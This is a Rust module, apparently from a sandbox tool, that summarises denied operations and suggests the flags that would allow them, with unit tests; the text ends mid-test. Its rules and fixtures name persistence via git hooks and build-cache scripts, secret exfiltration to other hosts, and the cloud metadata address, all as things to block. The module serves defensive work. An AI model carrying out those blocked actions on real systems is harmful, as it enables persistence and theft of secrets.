//! The end-of-session account of what the sandbox denied, grouped by rule
//! and by what would allow it, with counts: the first few groups (all of
//! them with `-v`), each with its rule and the exact flag *and* policy
//! line that would allow it — or, for a protection, that none does — and
//! the preset that fits the command, where one does.
//!
//! Two sources: the supervisor's decisions (files, sockets, syscalls) and
//! the egress layer's refused connections (the proxy and the DNS stub,
//! which know the names). A lookup that went to the resolver's address
//! (the network off: vetto saw a connect, not a name) is said to be a name
//! lookup, and never proposed as a destination to allow.

use std::collections::{HashMap, HashSet};
use std::path::{Path, PathBuf};

use crate::events::{ConnReason, Connection, RuleId, Target};
use crate::policy::egress::{InternalReach, internal_reach};
use crate::policy::tools::{Cache, host_cache_of};
use crate::policy::{Access, markers};
use crate::report::suggest::write_grant;
use crate::supervisor::{
    self,
    notify::{NotifyEvent, Reason},
};

/// How many groups are named without `-v`.
pub(super) const FIRST: usize = 3;

/// Text the job chose (paths, names), safe for a terminal and a CI log.
pub(super) fn escaped(s: &str) -> String {
    crate::text::escape(s).into_owned()
}

/// What would allow a denial.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub(super) enum Fix {
    /// The flag, as typed, and the policy line that does the same.
    Allow { flag: String, line: String },
    /// Why no flag does (a protection), or what to do instead.
    None(String),
}

impl Fix {
    fn text(&self) -> String {
        match self {
            Fix::Allow { flag, line } => format!("{flag}  (policy: {line})"),
            Fix::None(why) => why.clone(),
        }
    }
}

/// One group of denials: the rule, the first of what was denied, how many
/// times and how many distinct things, and how to allow them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Denial {
    pub rule: RuleId,
    /// The path, socket, syscall or address, escaped, with `~` for home.
    pub what: String,
    pub fix: Fix,
    pub count: u64,
    /// Distinct `what`s folded into the group.
    pub distinct: u64,
}

/// What the session knows that decides the guidance.
#[derive(Debug, Clone, Default)]
pub(super) struct Context {
    pub home: PathBuf,
    /// The policy's protected and masked paths: never proposed.
    pub guarded: Vec<PathBuf>,
    /// "did you mean `--preset …`", when one fits the command and project.
    pub preset: Option<String>,
    /// The vetto-owned caches the policy gives the job's tools.
    pub caches: Vec<Cache>,
    /// The refused calls `[syscalls] expected` makes no finding, and the
    /// classes as written.
    pub expected: Vec<String>,
    pub expected_classes: Vec<&'static str>,
    /// `[network] expected`: names whose refusal is no finding.
    pub expected_hosts: Vec<crate::policy::HostPattern>,
    /// The report directory (absolute) and, when it lies in the project,
    /// its path there (`vetto-report`).
    pub report_dir: Option<(PathBuf, Option<PathBuf>)>,
}

impl Context {
    /// From the policy in force and the command: its protected and masked
    /// paths, and the preset that fits the command in its project when the
    /// policy does not extend it already.
    pub fn new(
        policy: &crate::policy::Policy,
        command: &[std::ffi::OsString],
        home: &Path,
    ) -> Self {
        let guarded = policy
            .fs
            .iter()
            .filter(|r| matches!(r.access, Access::Protect | Access::Deny))
            .map(|r| r.path.clone())
            .collect();
        let argv: Vec<String> = command
            .iter()
            .map(|a| a.to_string_lossy().into_owned())
            .collect();
        let in_force = markers::in_force(policy.sources.iter().map(|s| s.name.as_str()));
        let preset = markers::suggest(&argv, |m| policy.project.join(m).is_file(), &in_force)
            .map(|s| s.line());
        Context {
            home: home.to_path_buf(),
            guarded,
            preset,
            caches: policy.caches.iter().map(|c| c.cache).collect(),
            expected: policy
                .expected_denials
                .iter()
                .flat_map(|e| e.class.calls())
                .map(|c| (*c).to_string())
                .collect(),
            expected_classes: policy
                .expected_denials
                .iter()
                .map(|e| e.class.as_str())
                .collect(),
            expected_hosts: policy.expected_hosts.clone(),
            report_dir: None,
        }
    }

    /// With the session's report directory (`dir`, absolute): a refused
    /// write there is told how to keep it (`git clean -fdx`).
    pub fn with_report_dir(mut self, dir: Option<&Path>, project: &Path) -> Self {
        self.report_dir = dir.map(|d| {
            let inside = d
                .strip_prefix(project)
                .ok()
                .filter(|r| !r.as_os_str().is_empty())
                .map(Path::to_path_buf);
            (d.to_path_buf(), inside)
        });
        self
    }
}

/// `~/…` for paths under home.
fn home_relative(path: &Path, home: &Path) -> String {
    match path.strip_prefix(home) {
        Ok(rest) if !home.as_os_str().is_empty() && rest.as_os_str().is_empty() => "~".into(),
        Ok(rest) if !home.as_os_str().is_empty() => format!("~/{}", rest.display()),
        _ => path.display().to_string(),
    }
}

fn shown(target: &Target, home: &Path) -> String {
    match target.path() {
        Some(p) => escaped(&home_relative(p, home)),
        None => escaped(&target.display()),
    }
}

/// A TOML string for a policy line (the job chose the text).
fn quoted(s: &str) -> String {
    format!("\"{}\"", crate::report::suggest::toml_basic(s))
}

/// Public registries that serve from more than one host: a client that
/// is refused the first never asks for the next, so a hint naming only
/// the one refused takes a round per host (pip: its index, ~9 s of
/// retries, then the files host). Each names its group whole.
const REGISTRY_HOSTS: &[&[&str]] = &[
    &["pypi.org", "files.pythonhosted.org"],
    &["index.crates.io", "static.crates.io", "crates.io"],
    &["proxy.golang.org", "sum.golang.org"],
    &["rubygems.org", "index.rubygems.org"],
    &["repo.maven.apache.org", "repo1.maven.org"],
    &["plugins.gradle.org", "plugins-artifacts.gradle.org"],
    &["registry.npmjs.org", "registry.yarnpkg.com"],
];

/// `entry` (`HOST` or `HOST:PORT`) and, for a host of a registry in
/// [`REGISTRY_HOSTS`], the group's other hosts on the same port.
fn with_registry_hosts(entry: &str) -> Vec<String> {
    let (host, port) = match entry.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') && p.parse::<u16>().is_ok() => (h, Some(p)),
        _ => (entry, None),
    };
    let group = REGISTRY_HOSTS
        .iter()
        .find(|g| g.iter().any(|h| h.eq_ignore_ascii_case(host)));
    let mut all = vec![entry.to_string()];
    for other in group.into_iter().flat_map(|g| g.iter()) {
        if !other.eq_ignore_ascii_case(host) {
            all.push(match port {
                Some(p) => format!("{other}:{p}"),
                None => (*other).to_string(),
            });
        }
    }
    all
}

/// `--allow-domain HOST[:PORT]` and `[network] allow = ["…"]` (for a
/// registry's host, every host of the registry: one round).
fn allow_domain(entry: &str) -> Fix {
    let entries: Vec<String> = with_registry_hosts(entry)
        .iter()
        .map(|e| escaped(e))
        .collect();
    Fix::Allow {
        line: format!(
            "[network] allow = [{}]",
            entries
                .iter()
                .map(|e| quoted(e))
                .collect::<Vec<_>>()
                .join(", ")
        ),
        flag: entries
            .iter()
            .map(|e| format!("--allow-domain {e}"))
            .collect::<Vec<_>>()
            .join(" "),
    }
}

/// A resolver's address and port: a name lookup whose name vetto did not
/// see (the network off: the connect was refused before any query).
const RESOLVER_NO_NAME: &str = "no flag names the resolver: with the network off nothing resolves, and the query never reached vetto, so the name is not known; allow the host the command needs with --allow-domain HOST (vetto resolves it)";

/// The flag and policy line that allow it, exactly as they would be
/// typed, or why none does.
fn fix(rule: RuleId, target: &Target, ctx: &Context) -> Fix {
    let home = &ctx.home;
    let path_fix = |flag: &str, table: &str, key: &str, grant: Result<PathBuf, &str>| match grant {
        Err(why) => Fix::None(format!("no flag: {why}")),
        Ok(p) => {
            let p = escaped(&home_relative(&p, home));
            Fix::Allow {
                flag: format!("{flag} {p}"),
                line: format!("[{table}] {key} = [{}]", quoted(&p)),
            }
        }
    };
    let checked = |path: &Path| match crate::report::suggest::reopens_protection(path, &ctx.guarded)
    {
        Some(why) => Err(why),
        None if crate::report::suggest::before_random_part(path).is_some() => {
            Err(crate::report::suggest::RANDOM_NAME)
        }
        None => Ok(path.to_path_buf()),
    };
    let path = target.path().map(PathBuf::from).unwrap_or_default();
    match rule {
        // A host cache is never made writable (a later build outside the
        // sandbox would trust what the job put there): the tool gets a
        // vetto-owned cache instead (docs/caches.md).
        // vetto's own report directory (`git clean -fdx` removing it):
        // its log is written there while the job runs.
        RuleId::FsWriteDenied
            if ctx
                .report_dir
                .as_ref()
                .is_some_and(|(dir, _)| path.starts_with(dir)) =>
        {
            let keep = match ctx.report_dir.as_ref().and_then(|(_, r)| r.as_ref()) {
                Some(rel) => format!(
                    "`git clean -fdx -e /{}` keeps it, or ",
                    escaped(&rel.display().to_string())
                ),
                None => String::new(),
            };
            Fix::None(format!(
                "no flag: vetto's own report directory, where this session's log is being written (it is marked ignored by git); {keep}--report-dir outside the project"
            ))
        }
        RuleId::FsWriteDenied => {
            // A protection (a masked file, a bin/) comes first: no flag.
            let cache = host_cache_of(&path, home).filter(|_| {
                crate::report::suggest::reopens_protection(&path, &ctx.guarded).is_none()
            });
            match cache {
                Some(cache) if ctx.caches.contains(&cache) => Fix::None(format!(
                    "no flag: a host cache, which later builds outside the sandbox trust; \
                     the job's {cache} already has its vetto-owned cache, so something wrote past it"
                )),
                Some(cache) => Fix::Allow {
                    flag: format!("--preset {cache}"),
                    line: format!("[filesystem] caches = [\"{cache}\"]"),
                },
                None => path_fix(
                    "--allow-write",
                    "filesystem",
                    "write",
                    write_grant(&path, Some(home), &ctx.guarded),
                ),
            }
        }
        // No path: the client could not be read (not dumpable: ssh,
        // gpg-agent), so where it connects is unknown.
        RuleId::UnixSocketDenied if path.as_os_str().is_empty() => Fix::None(
            "no flag: the client is not dumpable, so vetto cannot read where it connects; --tier full can".into(),
        ),
        RuleId::UnixSocketDenied => {
            path_fix("--allow-unix", "network", "unix", checked(&path))
        }
        RuleId::FsReadDenied => path_fix("--allow-read", "filesystem", "read", checked(&path)),
        // Only the whole network allows another kind of socket: filtered
        // egress carries TCP (and names over TCP) through vetto alone.
        RuleId::NetSocketDenied => Fix::None(
            "only --net host (the whole network); --allow-domain carries TCP only (and resolves the names it allows)".into(),
        ),
        // The one destination, through the proxy; not the whole network —
        // and never a resolver, which would only carry lookups.
        RuleId::NetEgressBlocked => match target {
            Target::Address { port: Some(53), .. } => Fix::None(RESOLVER_NO_NAME.into()),
            // `0.0.0.0`/`::` is no destination (the kernel sends such a
            // connect to this host's own services): no rule names it.
            Target::Address { addr, .. }
                if addr.parse::<std::net::IpAddr>().is_ok_and(|ip| ip.is_unspecified()) =>
            {
                Fix::None(
                    "no flag: the unspecified address is no destination (a connect to it reaches this host's own services); allow the service by its name or address"
                        .into(),
                )
            }
            // A name the DNS stub refused: the name is the entry, if it
            // is one a flag takes as it is (the job chose its bytes: not
            // `*.x`, which would allow a whole domain, nor `x:443`, nor
            // shell words to paste).
            Target::Host {
                host,
                port: Some(53),
            } => match crate::policy::validate::parse_host(host) {
                Ok((name, None)) if !name.contains('*') && name == *host => allow_domain(host),
                _ => Fix::None(
                    "no flag: the name asked is not a host name an allow rule could name".into(),
                ),
            },
            Target::Address {
                addr,
                port: Some(p),
            } if addr.contains(':') => allow_domain(&format!("[{addr}]:{p}")),
            Target::Address {
                addr,
                port: Some(p),
            }
            | Target::Host {
                host: addr,
                port: Some(p),
            } => allow_domain(&format!("{addr}:{p}")),
            _ => Fix::None("--net host (the whole network)".into()),
        },
        RuleId::GitPersistenceBlocked
        | RuleId::PersistencePlanted
        | RuleId::CiControlFileBlocked => {
            Fix::None("no flag: it would run code outside the sandbox later".into())
        }
        RuleId::SecretReadDenied => Fix::None("no flag: the secret stays masked".into()),
        RuleId::SecretSentElsewhere => Fix::None(
            "no flag: the value never goes there (if the job really sends it to this host, name it with the secret: --secret NAME@HOST1,HOST2)".into(),
        ),
        RuleId::SyscallDenied => Fix::None("no flag: no policy allows this call".into()),
        RuleId::ProcessEscaped
        | RuleId::LimitTimeout
        | RuleId::LimitMemory
        | RuleId::LimitProcs
        | RuleId::SecretEnvWithheld => Fix::None("no flag".into()),
    }
}

/// A new entry refused once the session's spares are used
/// (`Reason::SparesSpent`): no flag grants a path that does not exist when
/// the session starts; what works is making it before, or (a file where
/// a masked file sits, FS-ONLY) the tier that masks by mount.
fn spares_spent_fix(syscall: &str) -> Fix {
    let (made, tier) = if syscall.starts_with("mkdir") {
        (
            format!("{} new directories", crate::plan::fs::SparePool::DIRS),
            "",
        )
    } else {
        (
            format!("{} new files", crate::plan::fs::SparePool::FILES),
            "; or --tier full, which hides a masked file by a mount, so new files there need no spare",
        )
    };
    Fix::None(format!(
        "no flag: vetto makes at most {made} per session where the project's own entries are protected (each granted before the sandbox starts), and they were all used; make it before the session (mkdir -p, touch): what is there at the start is granted whole{tier}"
    ))
}

/// What is shown for a target: a refused lookup says it is one.
fn what(rule: RuleId, target: &Target, home: &Path) -> String {
    match (rule, target) {
        (
            RuleId::NetEgressBlocked,
            Target::Host {
                host,
                port: Some(53),
            },
        ) => {
            format!("{} (a name lookup)", escaped(host))
        }
        (
            RuleId::NetEgressBlocked,
            Target::Address {
                addr,
                port: Some(53),
            },
        ) => {
            format!("a name lookup, to the resolver {}:53", escaped(addr))
        }
        _ => shown(target, home),
    }
}

/// A refused connection the proxy or the DNS stub recorded, as a group
/// member: the fix follows from why it was refused.
fn connection(c: &Connection, ctx: &Context) -> Option<(RuleId, String, Fix)> {
    let v = c.violation(crate::events::violation::Provenance::Proxy)?;
    let mut what = what(v.rule, &v.target, &ctx.home);
    let host = c.host.as_deref().unwrap_or_default();
    // Not the allowlist: the name was allowed, its address was not. Say
    // so, or the user reads "blocked" as "add it to the allowlist".
    if c.reason == ConnReason::PrivateAddress
        && !host.is_empty()
        && host.parse::<std::net::IpAddr>().is_err()
        && let Some(ip) = c.addr.as_deref().and_then(|a| a.parse().ok())
    {
        what.push_str(&format!(
            " (it resolved to {ip}, which is {})",
            crate::policy::addr::classify(ip).as_str()
        ));
    }
    let fix = match c.reason {
        ConnReason::NotAllowed | ConnReason::DnsRefused => fix(v.rule, &v.target, ctx),
        ConnReason::DeniedByRule => {
            Fix::None("no flag: the policy's [network] deny names it".into())
        }
        ConnReason::PrivateAddress
            if !host.is_empty() && host.parse::<std::net::IpAddr>().is_err() =>
        {
            internal_fix(host, c.addr.as_deref())
        }
        ConnReason::PrivateAddress => fix(v.rule, &v.target, ctx),
        other => Fix::None(format!("no flag: {}", other.describe())),
    };
    Some((v.rule, what, fix))
}

/// An allowed name that resolved to the internal address `addr`: what lets
/// exactly that name through, if it is intended — a pin of the name to
/// that address, never an address rule ([`internal_reach`]).
fn internal_fix(host: &str, addr: Option<&str>) -> Fix {
    let Some(ip) = addr.and_then(|a| a.parse().ok()) else {
        return Fix::None(
            "its name resolved to an internal address: a pin of the name to that address (--resolve NAME:IP) allows that name alone, if that is intended".into(),
        );
    };
    match internal_reach(host, ip) {
        InternalReach::Pin(pin) => {
            let pin = escaped(&pin);
            Fix::Allow {
                line: format!("[network] resolve = [{}]", quoted(&pin)),
                flag: format!("--resolve {pin}"),
            }
        }
        InternalReach::Never(why) => {
            Fix::None(format!("no flag: its name resolved to {ip}, {why}"))
        }
    }
}

/// The denials, grouped by rule and fix, in the order first seen.
pub(super) fn groups(
    decisions: &[NotifyEvent],
    refused: &[(Connection, u64)],
    audit: bool,
    ctx: &Context,
) -> Vec<Denial> {
    let mut seen_what = HashSet::new();
    let mut out: Vec<Denial> = Vec::new();
    let mut add = |out: &mut Vec<Denial>, rule: RuleId, what: String, fix: Fix, n: u64| {
        let new_what = seen_what.insert((rule, what.clone()));
        match out.iter_mut().find(|d| d.rule == rule && d.fix == fix) {
            Some(d) => {
                d.count += n;
                d.distinct += u64::from(new_what);
            }
            None => out.push(Denial {
                rule,
                what,
                fix,
                count: n,
                distinct: 1,
            }),
        }
    };
    let mut repeats: HashMap<_, usize> = HashMap::new();
    for d in decisions.iter().filter(|d| d.is_violation()) {
        // Cheap first: most repeats are the same call on the same name.
        let key = (d.syscall, d.path.clone(), d.addr);
        if let Some(&i) = repeats.get(&key) {
            if let Some(g) = out.get_mut(i) {
                g.count += 1;
            }
            continue;
        }
        let Some(v) = supervisor::violation_of(d, audit, &ctx.expected) else {
            continue;
        };
        if !v.is_finding() {
            continue;
        }
        let target = match &v.target {
            Target::Path { path } | Target::Socket { path } if path.is_relative() => Target::Path {
                path: v.process.cwd.join(path),
            },
            t => t.clone(),
        };
        let fix = if d.reason == Reason::SparesSpent {
            spares_spent_fix(d.syscall)
        } else {
            fix(v.rule, &target, ctx)
        };
        add(
            &mut out,
            v.rule,
            what(v.rule, &target, &ctx.home),
            fix.clone(),
            1,
        );
        if let Some(i) = out.iter().position(|g| g.rule == v.rule && g.fix == fix) {
            repeats.insert(key, i);
        }
    }
    for (c, n) in refused {
        if is_expected(c, ctx) {
            continue;
        }
        if let Some((rule, what, fix)) = connection(c, ctx) {
            add(&mut out, rule, what, fix, *n);
        }
    }
    out
}

/// Whether a refused connection is one `[network] expected` names.
fn is_expected(c: &Connection, ctx: &Context) -> bool {
    !ctx.expected_hosts.is_empty()
        && c.violation_expecting(
            crate::events::violation::Provenance::Proxy,
            &ctx.expected_hosts,
        )
        .is_some_and(|v| !v.is_finding())
}

/// The lines `vetto` prints about denials when the session ends: a count,
/// then the first [`FIRST`] groups (all with `verbose`), then the preset
/// that fits.
pub(super) fn lines(
    decisions: &[NotifyEvent],
    dropped: u64,
    refused: &[(Connection, u64)],
    audit: bool,
    verbose: bool,
    ctx: &Context,
) -> Vec<String> {
    let all = groups(decisions, refused, audit, ctx);
    let denied = all.iter().map(|d| d.count).sum::<u64>() + dropped;
    let calls = decisions
        .iter()
        .filter(|d| d.is_violation())
        .filter_map(|d| supervisor::violation_of(d, audit, &ctx.expected))
        .filter(|v| !v.is_finding())
        .count() as u64;
    let names: u64 = refused
        .iter()
        .filter(|(c, _)| is_expected(c, ctx))
        .map(|(_, n)| *n)
        .sum();
    let expected_line = (calls + names > 0).then(|| {
        let classes: Vec<String> = ctx
            .expected_classes
            .iter()
            .map(|c| format!("\"{c}\""))
            .collect();
        let mut parts = Vec::new();
        if calls > 0 {
            parts.push(format!(
                "{calls} refused call(s): [syscalls] expected = [{}]",
                classes.join(", ")
            ));
        }
        if names > 0 {
            parts.push(format!("{names} refused connection(s): [network] expected"));
        }
        format!(
            "vetto: the policy expects (no finding) {}",
            parts.join("; ")
        )
    });
    if denied == 0 {
        return expected_line.into_iter().collect();
    }
    let head = if audit {
        format!("vetto: the policy would have refused {denied} operation(s) (--audit: allowed)")
    } else {
        format!("vetto: the sandbox denied {denied} operation(s)")
    };
    let mut out = vec![match all.len() {
        0 => head,
        1 => format!("{head}:"),
        n => format!("{head}, in {n} groups:"),
    }];
    let shown = if verbose { all.len() } else { FIRST };
    for d in all.iter().take(shown) {
        let times = match (d.count, d.distinct) {
            (1, _) => String::new(),
            (n, 1) => format!(" (×{n})"),
            (n, k) => format!(" (×{n}, {} more like it)", k - 1),
        };
        out.push(format!(
            "vetto:   {} {}{times}  — to allow: {}",
            d.rule.as_str(),
            d.what,
            d.fix.text()
        ));
    }
    if all.len() > shown {
        out.push(format!(
            "vetto:   … and {} more (-v lists them all)",
            all.len() - shown
        ));
    }
    if let Some(p) = &ctx.preset {
        out.push(format!("vetto: {p}"));
    }
    out.extend(expected_line);
    out
}

/// One start line per writable path the user granted (`--allow-write`,
/// or a policy file of theirs; the presets name many paths a host may not
/// have) that does not exist yet and that the job could not create: the
/// sandbox grants what exists when it starts (Landlock opens each path;
/// FULL binds it), and the directory that would hold it is not writable.
/// vetto creates nothing in the user's home by itself, so the line says
/// what to do. `exists` is `lstat` succeeding (a parameter for the tests).
pub(super) fn unmade_grants(
    policy: &crate::policy::Policy,
    home: &Path,
    exists: impl Fn(&Path) -> bool,
) -> Vec<String> {
    let chosen = |source: &str| {
        source == "--allow-write"
            || policy
                .sources
                .iter()
                .any(|s| s.name == source && !s.name.starts_with("preset:"))
    };
    let mut out = Vec::new();
    for r in &policy.fs {
        if r.access != Access::Write || !chosen(&r.origin.source) || exists(&r.path) {
            continue;
        }
        // The nearest directory that is there: the job could create the
        // path beneath it only where the policy lets it write there.
        let Some(holder) = r.path.ancestors().skip(1).find(|a| exists(a)) else {
            continue;
        };
        let writable = crate::policy::paths::decide_rule(&policy.fs, holder)
            .is_some_and(|d| d.access == Access::Write);
        if writable {
            continue;
        }
        let path = escaped(&home_relative(&r.path, home));
        let given = if r.origin.line == 0 {
            format!("{} {path}", r.origin.source)
        } else {
            format!(
                "{}:{}:{} write {}",
                escaped(&r.origin.source),
                r.origin.line,
                r.origin.col,
                quoted(&path)
            )
        };
        out.push(format!(
            "{given} does not exist yet, and the job cannot create it ({} is not writable): \
             it stays unwritable this session; create it first (mkdir -p {path}), or grant an existing directory",
            escaped(&home_relative(holder, home))
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use std::time::SystemTime;

    use super::*;
    use crate::events::{ConnVia, Timestamp};
    use crate::supervisor::notify::{Decision, Reason};

    fn event(syscall: &'static str, path: &str, reason: Reason) -> NotifyEvent {
        NotifyEvent {
            tid: 7,
            syscall,
            path: Some(PathBuf::from(path)),
            addr: None,
            decision: Decision::Denied(libc::EACCES),
            reason,
            process: Some(crate::sandbox::ProcessFacts {
                pid: 7,
                exe: "/usr/bin/npm".into(),
                argv: vec!["npm".into()],
                cwd: "/home/u/app".into(),
                ..Default::default()
            }),
            time: SystemTime::UNIX_EPOCH,
        }
    }

    fn connect(addr: &str) -> NotifyEvent {
        let mut e = event("connect", "", Reason::Egress);
        e.addr = Some(addr.parse().unwrap_or_else(|_| unreachable!()));
        e
    }

    fn ctx() -> Context {
        Context {
            home: "/home/u".into(),
            guarded: vec!["/home/u/app/vetto.toml".into(), "/home/u/.ssh".into()],
            preset: None,
            caches: vec![],
            ..Context::default()
        }
    }

    fn refused(host: Option<&str>, port: u16, reason: ConnReason, via: ConnVia) -> Connection {
        let mut c = crate::report::fixture::refused_connection(host, port, None, reason);
        c.time = Timestamp::from(SystemTime::UNIX_EPOCH);
        c.via = via;
        c
    }

    /// The `npm install` of issue 12, as a user sees its end.
    fn npm_install() -> (Vec<NotifyEvent>, Vec<(Connection, u64)>) {
        let mut decisions = Vec::new();
        for f in [
            "index-v5/aa/1",
            "index-v5/aa/1",
            "index-v5/aa/2",
            "content-v2/x",
        ] {
            decisions.push(event(
                "openat",
                &format!("/home/u/.npm/_cacache/{f}"),
                Reason::OutsidePolicy,
            ));
        }
        decisions.push(event(
            "mkdirat",
            "/home/u/.npm/_logs",
            Reason::OutsidePolicy,
        ));
        decisions.push(event(
            "mkdirat",
            "/home/u/app/.git/hooks/x",
            Reason::Protected,
        ));
        decisions.push(event(
            "openat",
            "/home/u/app/node_modules/.bin/x",
            Reason::OutsidePolicy,
        ));
        decisions.push(event(
            "openat",
            "/home/u/.cargo/bin/cargo",
            Reason::OutsidePolicy,
        ));
        decisions.push(event(
            "openat",
            "/home/u/app/vetto.toml",
            Reason::OutsidePolicy,
        ));
        decisions.push(event(
            "mkdirat",
            "/home/u/.cargo/registry",
            Reason::OutsidePolicy,
        ));
        decisions.push(connect("10.255.255.53:53"));
        decisions.push(connect("10.255.255.53:53"));
        decisions.push(event("socket", "", Reason::Forbidden));
        let conns = vec![
            (
                refused(
                    Some("registry.example.test"),
                    443,
                    ConnReason::NotAllowed,
                    ConnVia::Connect,
                ),
                3,
            ),
            (
                refused(
                    Some("mirror.example.test"),
                    53,
                    ConnReason::DnsRefused,
                    ConnVia::Dns,
                ),
                2,
            ),
            (
                refused(
                    Some("paste.example.test"),
                    443,
                    ConnReason::DeniedByRule,
                    ConnVia::Connect,
                ),
                1,
            ),
        ];
        (decisions, conns)
    }

    #[test]
    fn the_end_of_run_guidance_groups_denials_with_the_flag_and_policy_line() {
        let (decisions, conns) = npm_install();
        let mut ctx = ctx();
        ctx.preset = Some(
            "did you mean `--preset node`? (the project has package.json and the command is npm)"
                .into(),
        );
        let out = lines(&decisions, 0, &conns, false, true, &ctx);
        insta::assert_snapshot!("end_of_run_guidance", out.join("\n"));
    }

    #[test]
    fn denials_are_named_with_the_rule_and_the_flag_that_allows_them() {
        let (decisions, conns) = npm_install();
        let out = lines(&decisions, 0, &conns, false, false, &ctx());
        assert_eq!(
            out[0],
            "vetto: the sandbox denied 19 operation(s), in 10 groups:"
        );
        assert_eq!(
            out[1],
            "vetto:   fs-write-denied ~/.npm/_cacache/index-v5/aa/1 (×5, 3 more like it)  — to allow: --preset npm  (policy: [filesystem] caches = [\"npm\"])"
        );
        assert_eq!(out.len(), 5, "{out:?}");
        assert_eq!(out[4], "vetto:   … and 7 more (-v lists them all)");

        let write = [event(
            "openat",
            "/home/u/data/out/x.log",
            Reason::OutsidePolicy,
        )];
        assert_eq!(
            lines(&write, 0, &[], false, false, &ctx())[1],
            "vetto:   fs-write-denied ~/data/out/x.log  — to allow: --allow-write ~/data/out  (policy: [filesystem] write = [\"~/data/out\"])"
        );
    }

    /// pip refused its index is told the files host too (one round, not
    /// one per host); any other host only itself.
    #[test]
    fn a_registry_host_is_allowed_with_the_hosts_it_serves_from() {
        let hint = |host: &str, port: Option<u16>| {
            fix(
                RuleId::NetEgressBlocked,
                &Target::Host {
                    host: host.into(),
                    port,
                },
                &ctx(),
            )
        };
        assert_eq!(
            hint("pypi.org", Some(443)),
            Fix::Allow {
                flag: "--allow-domain pypi.org:443 --allow-domain files.pythonhosted.org:443"
                    .into(),
                line: "[network] allow = [\"pypi.org:443\", \"files.pythonhosted.org:443\"]".into(),
            }
        );
        let Fix::Allow { flag, .. } = hint("static.crates.io", Some(443)) else {
            unreachable!("a host is allowed by a flag")
        };
        assert_eq!(
            flag,
            "--allow-domain static.crates.io:443 --allow-domain index.crates.io:443 --allow-domain crates.io:443"
        );
        assert_eq!(
            hint("example.com", Some(443)),
            Fix::Allow {
                flag: "--allow-domain example.com:443".into(),
                line: "[network] allow = [\"example.com:443\"]".into(),
            }
        );
    }

    /// An allowed registry whose name resolved to an internal address (a
    /// mirror in a reserved range, a local server): the advice is what
    /// lets exactly that name through — a pin of the name to the address,
    /// still checked by name and TLS server name, never an address rule
    /// (which would open every host behind it) — and nothing for the
    /// metadata service.
    /// A connect to `0.0.0.0:PORT` (what the kernel takes for this host)
    /// gets no advice: an ip rule for the unspecified address is refused
    /// by the policy, and would name no destination.
    #[test]
    fn a_connect_to_the_unspecified_address_is_advised_no_address_rule() {
        for addr in ["0.0.0.0", "::"] {
            let fix = fix(
                RuleId::NetEgressBlocked,
                &Target::Address {
                    addr: addr.into(),
                    port: Some(8080),
                },
                &ctx(),
            );
            assert!(
                matches!(&fix, Fix::None(why) if why.contains("no destination")),
                "{addr}"
            );
        }
    }

    #[test]
    fn a_name_resolved_to_an_internal_address_is_told_the_rule_that_lets_it_through() {
        let advice = |addr: &str| {
            let mut c = refused(
                Some("registry.example.test"),
                443,
                ConnReason::PrivateAddress,
                ConnVia::Connect,
            );
            c.addr = Some(addr.into());
            let out = lines(&[], 0, &[(c, 1)], false, false, &ctx());
            out[1]
                .split("— to allow: ")
                .nth(1)
                .unwrap_or_default()
                .to_string()
        };
        assert_eq!(
            advice("203.0.113.80"),
            "--resolve registry.example.test:203.0.113.80  (policy: [network] resolve = [\"registry.example.test:203.0.113.80\"])"
        );
        assert_eq!(
            advice("fd00::5"),
            "--resolve registry.example.test:fd00::5  (policy: [network] resolve = [\"registry.example.test:fd00::5\"])"
        );
        assert_eq!(
            advice("127.0.0.1"),
            "--resolve registry.example.test:127.0.0.1  (policy: [network] resolve = [\"registry.example.test:127.0.0.1\"])"
        );
        assert!(advice("169.254.169.254").starts_with("no flag: "));
        // Why, before the advice: the name was allowed, its address not.
        let mut c = refused(
            Some("registry.example.test"),
            443,
            ConnReason::PrivateAddress,
            ConnVia::Connect,
        );
        c.addr = Some("203.0.113.80".into());
        let out = lines(&[], 0, &[(c, 1)], false, false, &ctx());
        assert!(
            out[1].contains("registry.example.test:443 (it resolved to 203.0.113.80, which is "),
            "{}",
            out[1]
        );
    }

    /// A denied write in a host cache (`npm install` writing `~/.npm`, a
    /// job planting a `build.rs` in `~/.cargo/registry/src`) is answered
    /// with the tool's vetto-owned cache, never by making the host's
    /// writable: a later build outside the sandbox would trust it. With
    /// that cache already in force, no flag is offered at all.
    #[test]
    fn a_write_into_a_host_cache_is_answered_with_a_vetto_owned_cache() {
        let write = |path: &str, ctx: &Context| {
            let e = [event("openat", path, Reason::OutsidePolicy)];
            lines(&e, 0, &[], false, false, ctx)[1].clone()
        };
        for (path, cache) in [
            (
                "/home/u/.cargo/registry/src/index/serde-1.0.200/build.rs",
                "cargo",
            ),
            ("/home/u/.cargo/git/checkouts/x/y", "cargo"),
            ("/home/u/.npm/_cacache/index-v5/aa/1", "npm"),
            ("/home/u/.cache/pip/wheels/x.whl", "pip"),
            ("/home/u/go/pkg/mod/example.com/m@v1/m.go", "go"),
            ("/home/u/.m2/repository/x/y.jar", "maven"),
            ("/home/u/.gradle/init.d/evil.gradle", "gradle"),
        ] {
            let line = write(path, &ctx());
            assert!(
                line.ends_with(&format!(
                    "— to allow: --preset {cache}  (policy: [filesystem] caches = [\"{cache}\"])"
                )),
                "{line}"
            );
            assert!(!line.contains("--allow-write"), "{line}");
            let mut with_cache = ctx();
            with_cache.caches = vec![
                crate::policy::tools::Cache::Cargo,
                crate::policy::tools::Cache::Npm,
                crate::policy::tools::Cache::Pip,
                crate::policy::tools::Cache::Go,
                crate::policy::tools::Cache::Maven,
                crate::policy::tools::Cache::Gradle,
            ];
            let line = write(path, &with_cache);
            assert!(line.contains("— to allow: no flag: a host cache"), "{line}");
        }
        // A masked file in a host cache is a protection: no flag at all.
        let mut masked = ctx();
        masked
            .guarded
            .push("/home/u/.gradle/gradle.properties".into());
        let line = write("/home/u/.gradle/gradle.properties", &masked);
        assert!(
            line.ends_with("— to allow: no flag: a protected or masked path of the policy"),
            "{line}"
        );
    }

    #[test]
    fn never_proposes_a_bin_directory_a_protected_path_or_a_wider_parent() {
        let (decisions, conns) = npm_install();
        let out = lines(&decisions, 0, &conns, false, true, &ctx());
        let fix_of = |what: &str| {
            out.iter()
                .find(|l| l.contains(&format!(" {what}")))
                .map(|l| {
                    l.split("— to allow: ")
                        .nth(1)
                        .unwrap_or_default()
                        .to_string()
                })
                .unwrap_or_else(|| panic!("{what} not listed: {out:#?}"))
        };
